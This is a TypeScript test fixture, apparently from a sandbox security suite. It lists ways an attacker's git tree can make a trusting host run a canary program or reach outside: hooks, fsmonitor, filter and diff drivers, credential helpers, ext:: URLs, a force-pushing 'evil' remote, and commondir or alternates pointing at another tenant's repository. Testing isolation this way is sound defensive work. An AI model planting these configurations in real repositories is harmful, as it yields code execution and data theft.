import { mkdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";

/** What an attacker has at hand: his tree, a program that betrays that it ran, and a server of his own. */
export type Attack = {
  treePath: string;
  /** Appends to the agent's `.git/config`. */
  config: (text: string) => void;
  /** Writes a file of the tree; its folder is made. */
  write: (path: string, content: string) => void;
  /** Path of an executable that leaves the canary file. */
  program: string;
  canaryUrl: string;
  /** A folder of another tenant on this host, with a repository and a secret in it. */
  tenantPath: string;
};

export type Vector = {
  title: string;
  plant: (attack: Attack) => void;
  /** Files of the tree that the vector itself adds, besides those that every run changes. */
  adds?: string[];
};

const ALL_HOOKS = [
  "applypatch-msg",
  "commit-msg",
  "fsmonitor-watchman",
  "post-applypatch",
  "post-checkout",
  "post-commit",
  "post-index-change",
  "post-merge",
  "post-rewrite",
  "pre-applypatch",
  "pre-auto-gc",
  "pre-commit",
  "pre-push",
  "pre-rebase",
  "prepare-commit-msg",
  "reference-transaction",
  "update",
];

/** Each known way, and a few more, to make a host that trusts the tree do something. */
export const vectors: Vector[] = [
  {
    title: "hooks in .git/hooks",
    plant: ({ treePath, program }) => {
      mkdirSync(join(treePath, ".git/hooks"));
      for (const hook of ALL_HOOKS) symlinkSync(program, join(treePath, ".git/hooks", hook));
    },
  },
  {
    title: "WS-002: core.hooksPath",
    plant: ({ treePath, config, program }) => {
      mkdirSync(join(treePath, ".git/elsewhere"));
      for (const hook of ALL_HOOKS) symlinkSync(program, join(treePath, ".git/elsewhere", hook));
      config(`[core]\n\thooksPath = ${treePath}/.git/elsewhere\n`);
    },
  },
  {
    title: "hook.<name>.command of git 2.54 and later",
    plant: ({ config, program }) =>
      config(ALL_HOOKS.map((hook) => `[hook "${hook}"]\n\tevent = ${hook}\n\tcommand = ${program}\n`).join("")),
  },
  {
    title: "WS-004: core.fsmonitor",
    plant: ({ config, program }) => config(`[core]\n\tfsmonitor = ${program}\n`),
  },
  {
    title: "WS-005: filter.<name>.clean and .smudge with .gitattributes",
    adds: [".gitattributes"],
    plant: ({ config, write, program }) => {
      config(`[filter "x"]\n\tclean = ${program}\n\tsmudge = ${program}\n\trequired = true\n`);
      write(".gitattributes", "* filter=x\n");
    },
  },
  {
    title: "filter.<name>.process with .gitattributes and info/attributes",
    adds: [".gitattributes"],
    plant: ({ treePath, config, write, program }) => {
      config(`[filter "x"]\n\tprocess = ${program}\n`);
      write(".gitattributes", "* filter=x\n");
      writeFileSync(join(treePath, ".git/info/attributes"), "* filter=x\n");
    },
  },
  {
    title: "WS-007: diff.external, diff.<name>.textconv and .command, merge drivers",
    adds: [".gitattributes"],
    plant: ({ config, write, program }) => {
      config(`[diff]\n\texternal = ${program}\n[diff "x"]\n\ttextconv = ${program}\n\tcommand = ${program}\n`);
      config(`[merge "x"]\n\tdriver = ${program}\n`);
      write(".gitattributes", "* diff=x merge=x\n");
    },
  },
  {
    title: "WS-008: commit.gpgSign with gpg.program, and push.gpgSign",
    plant: ({ config, program }) =>
      config(
        `[commit]\n\tgpgSign = true\n[tag]\n\tgpgSign = true\n[push]\n\tgpgSign = true\n[gpg]\n\tprogram = ${program}\n`,
      ),
  },
  {
    title: "WS-009: include.path and includeIf",
    plant: ({ treePath, config, program }) => {
      writeFileSync(join(treePath, ".git/more"), `[core]\n\tfsmonitor = ${program}\n\tsshCommand = ${program}\n`);
      config(`[include]\n\tpath = more\n[includeIf "gitdir:/"]\n\tpath = ${treePath}/.git/more\n`);
    },
  },
  {
    title: "extensions.worktreeConfig with config.worktree",
    plant: ({ treePath, config, program }) => {
      config(`[extensions]\n\tworktreeConfig = true\n`);
      writeFileSync(join(treePath, ".git/config.worktree"), `[core]\n\tfsmonitor = ${program}\n`);
    },
  },
  {
    title: "WS-011: url.insteadOf, pushInsteadOf, remote.pushDefault, http.proxy, http.sslVerify",
    plant: ({ config, canaryUrl }) => {
      config(`[url "${canaryUrl}/"]\n\tinsteadOf = http://\n\tinsteadOf = https://\n\tpushInsteadOf = http://\n`);
      config(`[http]\n\tproxy = ${canaryUrl}\n\tsslVerify = false\n[remote]\n\tpushDefault = evil\n`);
      config(`[remote "evil"]\n\turl = ${canaryUrl}/x\n\tpush = +refs/*:refs/*\n`);
    },
  },
  {
    title: "url.insteadOf that leads to ext::, with the protocol allowed",
    plant: ({ config, program }) =>
      config(`[url "ext::${program} "]\n\tinsteadOf = http://\n[protocol "ext"]\n\tallow = always\n`),
  },
  {
    title: "WS-012: credential.helper, core.askPass, core.sshCommand, core.gitProxy",
    plant: ({ config, program }) =>
      config(
        `[credential]\n\thelper = !${program}\n[core]\n\taskPass = ${program}\n\tsshCommand = ${program}\n\tgitProxy = ${program}\n\tpager = ${program}\n\teditor = ${program}\n`,
      ),
  },
  {
    title: "core.worktree that points at another folder of the host",
    plant: ({ config, tenantPath }) => config(`[core]\n\tworktree = ${tenantPath}\n`),
  },
  {
    title: "WS-014: .git replaced by a file that names another repository",
    plant: ({ treePath, tenantPath }) => {
      rmSync(join(treePath, ".git"), { recursive: true });
      writeFileSync(join(treePath, ".git"), `gitdir: ${tenantPath}/.git\n`);
    },
  },
  {
    title: "WS-014: .git replaced by a link to a repository with a program in its settings",
    plant: ({ treePath, config, program }) => {
      config(`[core]\n\tfsmonitor = ${program}\n`);
      renameSync(join(treePath, ".git"), join(treePath, "..", "moved-git"));
      symlinkSync("../moved-git", join(treePath, ".git"));
    },
  },
  {
    title: "WS-015: a repository of its own in a folder, with fsmonitor and filters",
    adds: ["sub/code.txt", "sub/.gitattributes"],
    plant: ({ treePath, write, program }) => plantRepository(join(treePath, "sub"), { write, program, name: "sub" }),
  },
  {
    title: "WS-015: a filled submodule with fsmonitor, and .gitmodules with ignore = none",
    adds: [".gitmodules"],
    plant: ({ treePath, write, program }) => {
      plantRepository(join(treePath, "module"), { write, program, name: "module" });
      write(
        ".gitmodules",
        `[submodule "module"]\n\tpath = module\n\turl = ./x\n\tignore = none\n\tupdate = !${program}\n`,
      );
    },
  },
  {
    title: "WS-016: commondir that leads to another tenant's repository",
    plant: ({ treePath, tenantPath }) => writeFileSync(join(treePath, ".git/commondir"), `${tenantPath}/.git\n`),
  },
  {
    title: "WS-016: alternates that lead to another tenant's objects",
    plant: ({ treePath, tenantPath }) => {
      mkdirSync(join(treePath, ".git/objects/info"), { recursive: true });
      writeFileSync(join(treePath, ".git/objects/info/alternates"), `${tenantPath}/.git/objects\n`);
    },
  },
  {
    title: "a promisor remote and missing objects",
    plant: ({ treePath, config, program }) => {
      config(`[extensions]\n\tpartialClone = evil\n[remote "evil"]\n\turl = ext::${program}\n\tpromisor = true\n`);
      rmSync(join(treePath, ".git/objects"), { recursive: true });
      mkdirSync(join(treePath, ".git/objects"));
    },
  },
  {
    title: "WS-018: no .git at all",
    plant: ({ treePath }) => rmSync(join(treePath, ".git"), { recursive: true }),
  },
  {
    title: "an index, HEAD and refs of nonsense",
    plant: ({ treePath }) => {
      for (const file of ["index", "HEAD", "packed-refs", "config", "shallow"]) {
        writeFileSync(join(treePath, ".git", file), "\0".repeat(4096));
      }
    },
  },
  {
    title: "settings in the tree that other programs read: .lfsconfig, .mailmap, .gitconfig",
    adds: [".lfsconfig", ".mailmap", ".gitconfig"],
    plant: ({ write, program, canaryUrl }) => {
      write(".lfsconfig", `[lfs]\n\turl = ${canaryUrl}\n`);
      write(".mailmap", "x <x@x> <y@y>\n");
      write(".gitconfig", `[core]\n\tfsmonitor = ${program}\n`);
    },
  },
];

function plantRepository(
  path: string,
  { write, program, name }: Pick<Attack, "write" | "program"> & { name: string },
): void {
  write(`${name}/.git/HEAD`, "ref: refs/heads/main\n");
  write(`${name}/.git/config`, `[core]\n\tfsmonitor = ${program}\n[filter "x"]\n\tclean = ${program}\n`);
  for (const folder of ["objects", "refs/heads", "hooks"]) mkdirSync(join(path, ".git", folder), { recursive: true });
  for (const hook of ALL_HOOKS) symlinkSync(program, join(path, ".git/hooks", hook));
  write(`${name}/code.txt`, "x");
  write(`${name}/.gitattributes`, "* filter=x\n");
}
